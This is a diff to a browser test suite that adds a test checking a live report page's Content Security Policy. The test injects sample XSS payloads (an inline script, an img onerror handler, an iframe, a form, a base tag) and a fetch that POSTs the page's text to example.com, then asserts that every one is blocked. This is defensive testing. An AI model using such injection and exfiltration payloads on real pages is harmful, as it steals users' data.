@@ -7,7 +7,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { systemClock } from '../../../src/lib/clock.ts';
 import { readFacts } from '../../../src/report/watch/facts.ts';
 import { LivePage } from '../../../src/report/watch/live.ts';
-import { partsOf, watchPage } from '../../../src/report/watch/page.ts';
+import { LIVE_POLICY, partsOf, watchPage } from '../../../src/report/watch/page.ts';
 import { startWatch, type RunningWatch } from '../../../src/watch/server.ts';
 import { Browser, CHROMIUM, type Page } from '../../helpers/browser/browser.ts';
 import { HARD_TO_READ, OVERLAPPING, seriousFaults } from '../../helpers/browser/readable.ts';
@@ -145,6 +145,39 @@ describe.skipIf(CHROMIUM === undefined)('live page in a browser (skipped where C
     const own = `requested ${server.url}`;
     expect(page.complaints.filter((complaint) => !complaint.startsWith(own))).toEqual([]);
   }, 180_000);
+
+  test('an attack inside the page -> its policy lets nothing run and nothing leave', async () => {
+    const other = await browser.page();
+    await other.open(server.url);
+    const refused = await other.evaluate<string[]>(`new Promise((resolve) => {
+      const refused = new Set();
+      document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
+      const script = document.createElement('script');
+      script.textContent = 'window.hasRun = true';
+      document.body.append(script);
+      const part = document.getElementById('plan');
+      part.innerHTML = '<img src="https://example.com/x.png" onerror="window.hasRun = true"><p style="color:red">x</p>'
+        + '<iframe src="https://example.com/"></iframe><form action="https://example.com/"><button>x</button></form>';
+      part.querySelector('button').click();
+      fetch('https://example.com/', { method: 'POST', body: document.body.textContent }).catch(() => {});
+      const base = document.createElement('base');
+      base.href = 'https://example.com/';
+      document.head.append(base);
+      setTimeout(() => resolve([...refused].toSorted()), 500);
+    })`);
+    expect(refused).toEqual([
+      'base-uri',
+      'connect-src',
+      'form-action',
+      'frame-src',
+      'img-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-attr',
+    ]);
+    expect(await other.evaluate('window.hasRun')).toBe(undefined);
+    expect(LIVE_POLICY).not.toContain('unsafe');
+  });
 
   test('the server ends -> the page says that it shows the last state', async () => {
     await server.close();
